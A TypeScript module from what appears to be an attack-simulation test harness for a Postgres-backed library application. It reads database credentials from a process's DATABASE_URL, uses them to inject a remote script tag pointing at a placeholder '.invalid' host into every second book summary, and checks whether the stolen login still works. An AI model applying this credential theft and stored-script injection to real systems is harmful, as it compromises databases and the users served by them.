import { join } from 'node:path';
import { hasCode } from '@bulkhead/kernel';
import { type Admin, connectionTo, openAdmin } from '@bulkhead/postgres/connection';
import type { EstatePaths } from '#estate/paths.ts';
import type { RunningEstate } from '#estate/run.ts';
import { takeVariable } from './attack.store.ts';
import { openReader, readPlainRows } from './rows.store.ts';
import { LIBRARY } from './scenario/scenario.ts';

/** What the library's process holds: the owner's role of its database. */
export type LibraryLogin = { readonly role: string; readonly password: string };

/** What somebody takes who may look at the library's process: its environment holds the address of its database. */
export async function takeLogin(running: RunningEstate): Promise<LibraryLogin> {
  const url = new URL(await takeVariable(running, LIBRARY, 'DATABASE_URL'));
  return { role: decodeURIComponent(url.username), password: decodeURIComponent(url.password) };
}

/** Writes a foreign script into every second book, past the application; @returns how many rows */
export async function defaceBooks(paths: EstatePaths, login: LibraryLogin, mark: string): Promise<number> {
  const session = await openSession(paths, login);
  try {
    const script = `<script src="https://${mark}.invalid/x.js"></script>`;
    const rows = await session.query("update book set summary = left(summary, 200) || ' ' || $1 where id % 2 = 0 returning 1", [
      script,
    ]);
    return rows.length;
  } finally {
    await session.close();
  }
}

/** Whether a login still opens a session. */
export async function tryLogin(paths: EstatePaths, login: LibraryLogin): Promise<boolean> {
  try {
    await (await openSession(paths, login)).close();
    return true;
  } catch (error) {
    if (hasCode(error, 'postgres.query_failed')) return false;
    throw error;
  }
}

/** Rows of people's own doing, by table and id: without sessions, which come and go. */
export function readLibrary(paths: EstatePaths): Promise<ReadonlyMap<string, string>> {
  return readPlainRows(paths, LIBRARY, ['book', 'member', 'loan']);
}

/** How far the library's database has written. */
export async function readPosition(paths: EstatePaths): Promise<string> {
  const admin = await openReader(paths, LIBRARY);
  try {
    const [row] = await admin.query<{ lsn: string }>('select pg_current_wal_flush_lsn()::text as lsn');
    return row?.lsn ?? '0/0';
  } finally {
    await admin.close();
  }
}

export type Lent = { readonly slug: string; readonly loans: number; readonly returned: number };

/** Each book with how often it was lent, and came back. */
export async function readLent(paths: EstatePaths): Promise<Lent[]> {
  const admin = await openReader(paths, LIBRARY);
  try {
    return await admin.query<Lent>(
      `select slug, count(loan.id)::int as loans, count(loan.returned_at)::int as returned
        from book left join loan on loan.book_id = book.id group by slug`,
    );
  } finally {
    await admin.close();
  }
}

function openSession(paths: EstatePaths, { role, password }: LibraryLogin): Promise<Admin> {
  const target = { database: LIBRARY, role, password, applicationName: LIBRARY };
  return openAdmin(connectionTo(join(paths.runtime, 'hq', `${LIBRARY}-pg`), target));
}
